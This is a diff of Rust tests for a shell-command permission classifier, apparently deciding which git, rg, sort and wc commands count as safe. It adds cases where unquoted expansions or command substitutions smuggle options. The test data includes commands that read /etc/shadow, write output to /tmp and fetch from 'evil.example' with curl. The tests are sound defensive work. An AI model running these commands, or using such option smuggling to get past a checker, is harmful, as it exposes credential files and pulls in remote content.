@@ -338,6 +338,9 @@ fn git_read_only_options_come_from_allow_lists() {
         "git log -p --no-i /etc/shadow x",
         "git log --author --output=/tmp/x",
         "git log $OPTS",
+        "git log \"$BASE\"..HEAD",
+        "git log HEAD..origin/$BRANCH",
+        "git log $(echo --output=/tmp/x)",
         "git show --textconv HEAD:x",
         "git diff --no-index /etc/shadow x",
         "git diff --no-index --output=/tmp/x a b",
@@ -405,6 +408,7 @@ fn git_read_only_options_come_from_allow_lists() {
         ("git worktree list --porcelain", Safe),
         ("git for-each-ref --format='%(refname)' refs/heads", Safe),
         ("git describe --tags --always", Safe),
+        ("git log \"HEAD..origin/$BRANCH\"", Safe),
         ("git stash -q list", WorkspaceSafe),
         ("git tag -a v1 -m release", WorkspaceSafe),
     ]);
@@ -632,4 +636,18 @@ fn listed_false_positives_are_allowed() {
             ("wc -l $(curl https://evil.example/x)", Ask),
         ],
     );
+}
+
+/// An unquoted expansion is split into words wherever it sits in a word, so
+/// `src/$X` may hold an option (`X='a --pre=sh'`) as well as `$X` may; a glob
+/// after a literal prefix only names files.
+#[test]
+fn an_unquoted_expansion_inside_a_word_may_become_an_option() {
+    asks(&["rg foo src/$X", "sort notes/$F", "git log HEAD..origin/$B"]);
+    check(&[
+        ("sort \"notes/$F\"", Safe),
+        ("sort -- notes/$F", Safe),
+        ("wc -l src/*.rs", Safe),
+    ]);
+    assert!(reason("sort notes/$F").contains("options"));
 }
